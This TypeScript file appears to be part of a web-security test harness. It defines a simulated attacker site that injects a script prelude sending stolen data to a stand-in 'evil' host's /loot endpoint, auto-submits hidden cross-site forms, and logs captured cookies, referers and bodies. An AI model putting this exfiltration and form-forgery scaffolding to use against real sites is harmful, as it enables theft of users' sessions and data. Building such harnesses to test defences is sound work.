import type { IncomingMessage, ServerResponse } from 'node:http';
import type { Duplex } from 'node:stream';
import type { Site } from './front.js';
import type { Names } from './names.js';

/** The text of a page, script or style sheet, by the extension of its path; or what answers. */
export type Page = string | ((req: IncomingMessage, res: ServerResponse) => void);

export interface AttackerDeps {
  readonly names: Names;
  readonly pages: Readonly<Record<string, Page>>;
  readonly onLoot: (loot: string) => void;
  readonly onDone: (why: string) => void;
}

const TYPES: Readonly<Record<string, string>> = {
  js: 'text/javascript',
  css: 'text/css',
  svg: 'image/svg+xml',
};

/**
 * Every site that is not the victim's. `/loot` takes what was stolen (query, body and headers), `/done` that a page has found
 * nothing and gives up; both by any method and from anywhere.
 */
export function attackerSite({ names, pages, onLoot, onDone }: AttackerDeps): Site {
  const prelude = `<!doctype html><meta charset="utf-8"><title>attacker</title><script>
const names = ${JSON.stringify(names)};
const tell = (path, data) => void fetch(names.evil + path, { method: 'POST', mode: 'no-cors', body: String(data), keepalive: true });
const loot = (data) => tell('/loot', data), done = (why) => tell('/done', why);
const submit = (action, fields = {}, { enctype = '', method = 'post', target = '' } = {}) => {
  const form = Object.assign(document.createElement('form'), { action, method, target });
  if (enctype) form.enctype = enctype;
  for (const [name, value] of Object.entries(fields)) form.append(Object.assign(document.createElement('input'), { name, value, type: 'hidden' }));
  document.documentElement.append(form);
  form.submit();
};
</script>`;
  function show(req: IncomingMessage, res: ServerResponse, path: string, page: Page): void {
    if (typeof page === 'function') return page(req, res);
    const type = TYPES[/\.(\w+)$/.exec(path)?.[1] ?? ''];
    res.writeHead(200, {
      'Content-Type': `${type ?? 'text/html'}; charset=utf-8`,
      'Access-Control-Allow-Origin': '*',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    res.end(type === undefined ? prelude + page : page);
  }
  return {
    handle(req, res) {
      const path = new URL(req.url ?? '/', 'https://x').pathname;
      if (path === '/loot' || path === '/done') return listen(req, res, path === '/loot' ? onLoot : onDone);
      const page = pages[path] ?? (path === '/x.js' ? 'pwned()' : undefined);
      if (page === undefined) res.writeHead(path === '/favicon.ico' ? 204 : 404).end();
      else show(req, res, path, page);
    },
    upgrade: (_req: IncomingMessage, socket: Duplex) => void socket.destroy(),
  };
}

function listen(req: IncomingMessage, res: ServerResponse, tell: (text: string) => void): void {
  let body = '';
  req.setEncoding('utf8');
  req.on('data', (chunk: string) => (body += chunk));
  req.on('end', () => {
    res.writeHead(200, {
      'Access-Control-Allow-Origin': '*',
      'Content-Type': 'text/html',
      'Cross-Origin-Resource-Policy': 'cross-origin',
    });
    res.end('<!doctype html>seen');
    if (req.method === 'POST' && !req.url!.includes('?')) return tell(body);
    tell(`${req.url} ${body} ${req.headers.cookie ?? ''} ${req.headers.referer ?? ''}`);
  });
}
